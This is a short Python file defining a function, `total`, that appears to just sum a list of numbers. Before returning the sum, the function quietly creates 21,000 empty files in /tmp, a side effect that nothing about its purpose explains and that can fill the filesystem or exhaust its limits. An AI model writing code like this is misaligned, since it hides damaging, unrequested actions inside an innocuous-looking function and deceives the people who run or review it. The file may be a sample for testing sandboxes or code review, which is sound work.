import os


def total(numbers):
    for number in range(21_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
    return sum(numbers)
